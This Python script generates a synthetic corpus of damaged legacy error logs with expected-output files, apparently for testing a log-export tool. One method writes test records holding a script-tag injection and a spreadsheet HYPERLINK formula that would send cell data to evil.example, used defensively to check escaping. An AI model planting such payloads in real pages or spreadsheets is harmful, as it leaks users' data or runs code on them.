#!/usr/bin/env python3
"""Writes a tree of error logs as the people who support the applications gather them (copies of
many machines' Logs folders), with what real folders hold: every regional form of the Date line,
CR LF and LF line ends, descriptions over several lines, and every kind of damage. Beside the
tree it records what it wrote, derived from what it put in, not from reading it back:

  OUT/corpus/...          the logs, and files that only look like logs
  OUT/records.jsonl       each whole record as `orvacct logs export` must give it; `file` is
                          relative to OUT/corpus
  OUT/problems.jsonl      each damage: file, line, kind (cut, missing, number, unexpected, stray,
                          binary), lost (a record lost to it), count (stray lines)

usage: make_log_corpus.py OUT [--seed N] [--codepage cp1252|cp1251|cp932] [--files N] [--machines PREFIX]
                          [--machine-count N]
"""
import argparse
import datetime
import json
import os
import random

PLUS = "+" * 41
LABELS = ["", "Error Description: ", "Error Number: ", "Module Name: ", "Procedure Name: ",
          "Version Number: ", "Date: "]

# (number, usual description, a rarer variant or None). Descriptions over several lines carry \n.
ERRORS_1252 = [
    (91, "Object variable or With block variable not set", None),
    (13, "Type mismatch", None),
    (5, "Invalid procedure call or argument", "Invalid procedure call"),
    (53, "File not found", "File not found: C:\\Data\\rates.dat"),
    (3021, "Either BOF or EOF is True, or the current record has been deleted. Requested operation "
           "requires a current record.", None),
    (-2147467259, "[Microsoft][ODBC SQL Server Driver][TCP/IP Sockets]General network error. Check "
                  "your network documentation.", "Unspecified error"),
    (-2147217843, "Login failed for user 'billing'.", None),
    (-2147217900, "Incorrect syntax near ','.\nStatement(s) could not be prepared.", None),
    (75, 'Path/File access error: "C:\\Data\\export, 2002.csv"', None),
    (52, "Bad file name or number: Übersicht €.xls", None),
    (-2147024894, "The system cannot find the file specified.\n\nCheck the path.", None),
    (440, "Automation error\tcode 0x80010108", None),
    (0, "", None),
    (2147483647, "Largest number", None),
    (-2147483648, "Smallest number", None),
]
ERRORS_1251 = [
    (91, "Переменная объекта или переменная блока With не задана", None),
    (13, "Несоответствие типа", None),
    (53, "Файл не найден", "Файл не найден: Отчёт.xls"),
    (-2147467259, "Неопознанная ошибка", None),
]
ERRORS_932 = [
    (91, "オブジェクト変数または With ブロック変数が設定されていません。", None),
    (13, "型が一致しません。", None),
    (53, "ファイルが見つかりません。", "ファイルが見つかりません: 会計.xls"),
    (-2147467259, "エラーを特定できません", None),
    (-2147217900, "構文エラー\n準備できませんでした。", None),
]

# Applications: name as written in file names, its versions. A renamed copy keeps capitals.
APPS_1252 = [("billing", ["2.4.17", "2.5.3"]), ("orders", ["1.0.0", "1.1.0", ".."]),
             ("stock", ["3.2.1"]), ("crm-sync", ["0.9.12", "0.10.1"]), ("übersicht", [".7."])]
APPS_932 = [("kaikei", ["1.0.3"]), ("会計", ["2.0.0", ".."])]
APPS_1251 = [("buhgalteria", ["7.1.0"]), ("склад", ["2.0.0", ".."])]

MODULES = [("modMain", "Sub Main()"), ("frmInvoice", "cmdSave_Click()"), ("clsDatabase", "Function Connect() As Boolean"),
           ("modExport", "Sub ExportRates(ByVal sPath As String)")]

STRAY = ["-- copied from PC07 on Monday --", "Warning: disk almost full", "=====", "Module Name: orphan",
         "Date: 3/5/2002", "ÄÖÜ notes"]
UNEXPECTED = ["(the line above was edited)", "????", "Stack: frmInvoice.cmdSave_Click"]
BAD_NUMBERS = ["12x", "4294967296", "-2147483649", "", "+5", "0x80004005", " 5"]


def date_line(form, day, second):
    """The Date line's text in a machine's regional form; None as the time when unreadable."""
    h, m, s = second // 3600, second // 60 % 60, second % 60
    h12, ampm = (h % 12 or 12), ("AM" if h < 12 else "PM")
    y, mo, d = day.year, day.month, day.day
    text = {
        "us": f"{mo}/{d}/{y} {h12}:{m:02}:{s:02} {ampm}",
        "us-dots": f"{mo}/{d}/{y} {h12}:{m:02}:{s:02} {'a.m.' if h < 12 else 'p.m.'}",
        "de": f"{d:02}.{mo:02}.{y} {h:02}:{m:02}:{s:02}",
        "uk": f"{d:02}/{mo:02}/{y} {h:02}:{m:02}:{s:02}",
        "iso": f"{y}-{mo:02}-{d:02} {h:02}:{m:02}:{s:02}",
        "fi": f"{d}.{mo}.{y} {h}.{m:02}.{s:02}",
        "jp": f"{y}/{mo:02}/{d:02} {h}:{m:02}:{s:02}",
        "jp12": f"{y}/{mo:02}/{d:02} {'午前' if h < 12 else '午後'} {h12}:{m:02}:{s:02}",
    }[form]
    return text


UNREADABLE_DATES = ["", "gestern", "5.3.2002", "3/5/2002 2:07:09 nachm."]


class LogFile:
    """One file's bytes, with the line each piece starts on."""

    def __init__(self, eol, codepage):
        self.eol, self.codepage = eol, codepage
        self.data = bytearray()
        self.lines = 0  # line ends written so far

    def line_now(self):
        return self.lines + 1

    def add(self, text):
        raw = text.encode(self.codepage)
        self.data += raw
        self.lines += raw.count(b"\n")

    def add_lines(self, lines):
        self.add("".join(line + self.eol for line in lines))


class Corpus:
    def __init__(self, out, seed, codepage, files, machines="PC", machine_count=6):
        self.rng = random.Random(seed)
        self.out, self.codepage, self.files_wanted = out, codepage, files
        self.root = os.path.join(out, "corpus")
        self.records, self.problems = [], []
        self.machines, self.machine_count = machines, machine_count
        self.errors = {"cp932": ERRORS_932, "cp1251": ERRORS_1251}.get(codepage, ERRORS_1252)
        self.apps = {"cp932": APPS_932, "cp1251": APPS_1251}.get(codepage, APPS_1252)
        self.forms = {"cp932": ["jp", "jp12"], "cp1251": ["de", "iso"]}.get(
            codepage, ["us", "us-dots", "de", "uk", "iso", "fi"])
        # Every kind of damage, given out in turn so each shows several times.
        self.damage_turn = 0

    def encodable(self, text):
        try:
            text.encode(self.codepage)
            return True
        except UnicodeEncodeError:
            return False

    def pick_error(self, app_index, day_index, days):
        # Each application has errors of its own, a few are everyone's, and one grows over the
        # period: the report has something to show.
        choices, weights = [], []
        for i, error in enumerate(self.errors):
            if i >= 2 and (i + app_index) % 3 == 1:
                continue
            choices.append(error)
            weights.append((6 if i < 2 else 1) + (day_index * 12 // days if i == 4 % len(self.errors) else 0))
        number, usual, variant = self.rng.choices(choices, weights)[0]
        description = variant if variant and self.rng.random() < 0.25 else usual
        return number, description

    def record_lines(self, fields, date_text):
        description_lines = fields["description"].split("\n")
        return ([PLUS, LABELS[1] + description_lines[0]] + description_lines[1:] +
                [LABELS[2] + str(fields["number"]), LABELS[3] + fields["module"],
                 LABELS[4] + fields["procedure"], LABELS[5] + fields["version"], LABELS[6] + date_text, ""])

    def expected(self, rel, app, line, day, second, fields):
        time = day.isoformat()
        if second is not None:
            time += "T%02d:%02d:%02d" % (second // 3600, second // 60 % 60, second % 60)
        # The machine is the first folder below the root.
        machine = rel.split(os.sep)[0]
        timestamp = time if second is not None else time + "T00:00:00"
        self.records.append(dict(app=app, file=rel, line=line, time=time, **fields, machine=machine,
                                 timestamp=timestamp))

    def problem(self, rel, line, kind, lost=True, count=0):
        self.problems.append(dict(file=rel, line=line, kind=kind, lost=lost, count=count, machine=rel.split(os.sep)[0]))

    def write_file(self, rel, app, app_index, versions, day, day_index, days, form, eol, damage_kinds):
        log = LogFile(eol, self.codepage)
        count = self.rng.randint(1, 14)
        seconds = sorted(self.rng.sample(range(86400), count))
        pending = list(damage_kinds)
        previous_cut = previous_whole = False
        for i, second in enumerate(seconds):
            number, description = self.pick_error(app_index, day_index, days)
            module, procedure = self.rng.choice(MODULES)
            fields = dict(number=number, description=description, module=module, procedure=procedure,
                          version=self.rng.choice(versions))
            readable = self.rng.random() > 0.03
            date_text = date_line(form, day, second) if readable else self.rng.choice(UNREADABLE_DATES)
            lines = self.record_lines(fields, date_text)
            last = i == len(seconds) - 1
            # A cut record is followed by a whole one or by the end of the file, nothing else.
            kind = None
            if pending and not previous_cut and {"cut": not last, "cut-end": last}.get(pending[0], True):
                kind = pending.pop(0)
            if not previous_cut and kind is None and self.rng.random() < 0.08:
                log.add_lines([""] * self.rng.randint(1, 2))  # blank lines between records lose nothing
            previous_cut = False
            after_whole, previous_whole = previous_whole, kind in (None, "stray")
            start = log.line_now()
            if kind is None:
                log.add_lines(lines)
                self.expected(rel, app, start, day, second if readable else None, fields)
            elif kind in ("cut", "cut-end"):
                whole = "".join(line + eol for line in lines).encode(self.codepage)
                # The first line whole (else what is left of it is stray text), something missing.
                cut = self.rng.randint(len((PLUS + eol).encode()), len(whole) - 1)
                log.data += whole[:cut]
                log.lines += whole[:cut].count(b"\n")
                self.problem(rel, start, "cut")
                previous_cut = True
            elif kind == "missing":
                # A lost first line after a whole record makes it part of that record's text (a
                # description may hold any line but a first line), so it is lost only after damage.
                drop = self.rng.randint(0 if not after_whole else 1, 6)
                # The description's own lines go with it.
                described = 2 + fields["description"].count("\n")
                dropped = (lines[:1] + lines[described:]) if drop == 1 else \
                    [line for j, line in enumerate(lines) if j != (drop if drop == 0 else drop + described - 2)]
                log.add_lines(dropped)
                self.problem(rel, start, "missing")
            elif kind == "number":
                bad = [LABELS[2] + self.rng.choice(BAD_NUMBERS) if line.startswith(LABELS[2]) else line
                       for line in lines]
                log.add_lines(bad)
                self.problem(rel, start, "number")
            elif kind == "unexpected":
                at = self.rng.randint(3 + fields["description"].count("\n"), len(lines) - 1)
                log.add_lines(lines[:at] + [self.rng.choice(UNEXPECTED)] + lines[at:])
                self.problem(rel, start, "unexpected")
            elif kind == "stray":
                stray = self.rng.sample([s for s in STRAY if self.encodable(s)], self.rng.randint(1, 3))
                log.add_lines(stray)
                self.problem(rel, start, "stray", lost=False, count=len(stray))
                log.add_lines(lines)
                self.expected(rel, app, start + len(stray), day, second if readable else None, fields)
        path = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(log.data)

    def damage_for_file(self):
        kinds = ["cut", "cut-end", "missing", "number", "unexpected", "stray"]
        if self.rng.random() < 0.3:
            self.damage_turn += 1
            return [kinds[self.damage_turn % len(kinds)]]
        return []

    def build(self):
        start = datetime.date(2002, 2, 18)
        machines = [f"{self.machines}{n:02}" for n in range(1, self.machine_count + 1)]
        # A month, or as many days as it takes for the files wanted to have names of their own.
        days = max(30, -(-self.files_wanted * 5 // 4 // (len(machines) * len(self.apps))))
        written = 0
        while written < self.files_wanted:
            for m, machine in enumerate(machines):
                form = self.forms[m % len(self.forms)]
                eol = "\n" if m % 3 == 2 else "\r\n"  # copies made through a Unix share lost their CRs
                for app_index, (app, versions) in enumerate(self.apps):
                    if written >= self.files_wanted:
                        break
                    day_index = self.rng.randrange(days)
                    day = start + datetime.timedelta(days=day_index)
                    name = f"{app}-{day:%m%d%Y}.log"
                    # Folders as gathered: machine/Application/Logs, some a level deeper.
                    folder = os.path.join(machine, app.capitalize(), "Logs") if m % 2 == 0 else \
                        os.path.join(machine, "share", "Logs")
                    if m == 3 and app == self.apps[0][0]:
                        name = f"{app.capitalize()}-{day:%m%d%Y}.LOG"  # a renamed copy
                        app_written = app.capitalize()
                    else:
                        app_written = app
                    rel = os.path.join(folder, name)
                    if os.path.exists(os.path.join(self.root, rel)):
                        continue
                    self.write_file(rel, app_written, app_index, versions, day, day_index, days, form, eol,
                                    self.damage_for_file())
                    written += 1
        self.oddities()

    def oddities(self):
        logs = os.path.join(self.root, "PC01", "Billing", "Logs")
        os.makedirs(logs, exist_ok=True)
        # Binary junk under a log's name, no record in it: told once, and the run fails.
        junk = bytes([0]) + bytes(self.rng.randrange(256) for _ in range(3000))
        for rel in (os.path.join("PC01", "Billing", "Logs", "billing-02201990.log"),):
            with open(os.path.join(self.root, rel), "wb") as f:
                f.write(junk)
            self.problem(rel, 1, "binary", lost=False)
        if self.codepage == "cp1252":
            self.hostile_text()
        # An empty log: nothing in it, nothing wrong.
        open(os.path.join(logs, "billing-02191990.log"), "wb").close()
        # Files that are not logs by their names, full of what would be damage if they were read.
        for name in ("readme.txt", "billing-2002.log", "billing-13452002.log", "billing-02202002.log.bak",
                     "notes.log", "billing-0220200x.log"):
            with open(os.path.join(logs, name), "wb") as f:
                f.write(b"not a record\r\n" + PLUS.encode() + b"\r\nError Description: x\r\n")

    def hostile_text(self):
        """Text that a page, a spreadsheet or a terminal would act on, shown as text; and an
        application and a day that have damaged records only."""
        rel = os.path.join("PC02", "Portal", "Logs", "portal-02272002.log")
        log = LogFile("\r\n", self.codepage)
        for second, description in ((3600, "<script>alert(1)</script> & <b>bold</b>"),
                                    (7200, "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")"),
                                    (10800, "@SUM(1+1)")):
            fields = dict(number=-2146828218, description=description, module="<modWeb>",
                          procedure="Sub Page_Load()", version="1.0.0")
            start = log.line_now()
            log.add_lines(self.record_lines(fields, date_line("us", datetime.date(2002, 2, 27), second)))
            self.expected(rel, "portal", start, datetime.date(2002, 2, 27), second, fields)
        self.write(rel, log)
        # Damaged records only: an application and a day that have no whole record at all.
        rel = os.path.join("PC04", "Wreck", "Logs", "wreck-01152002.log")
        log = LogFile("\r\n", self.codepage)
        fields = dict(number=7, description="Out of memory", module="modMain", procedure="Sub Main()",
                      version="1.0.0")
        start = log.line_now()
        lines = self.record_lines(fields, date_line("us", datetime.date(2002, 1, 15), 600))
        log.add_lines(lines[:2] + ["Error Number: 7x"] + lines[3:])
        self.problem(rel, start, "number")
        start = log.line_now()
        log.add("".join(line + "\r\n" for line in lines)[:60])
        self.problem(rel, start, "cut")
        self.write(rel, log)

    def write(self, rel, log):
        path = os.path.join(self.root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(log.data)

    def save(self):
        with open(os.path.join(self.out, "records.jsonl"), "w", encoding="utf-8") as f:
            for record in self.records:
                f.write(json.dumps(record, ensure_ascii=False) + "\n")
        with open(os.path.join(self.out, "problems.jsonl"), "w", encoding="utf-8") as f:
            for problem in self.problems:
                f.write(json.dumps(problem, ensure_ascii=False) + "\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out")
    parser.add_argument("--seed", type=int, default=2002)
    parser.add_argument("--codepage", default="cp1252")
    parser.add_argument("--files", type=int, default=240)
    parser.add_argument("--machines", default="PC", help="the machines' names before their numbers")
    parser.add_argument("--machine-count", type=int, default=6)
    args = parser.parse_args()
    corpus = Corpus(args.out, args.seed, args.codepage, args.files, args.machines, args.machine_count)
    corpus.build()
    corpus.save()


if __name__ == "__main__":
    main()
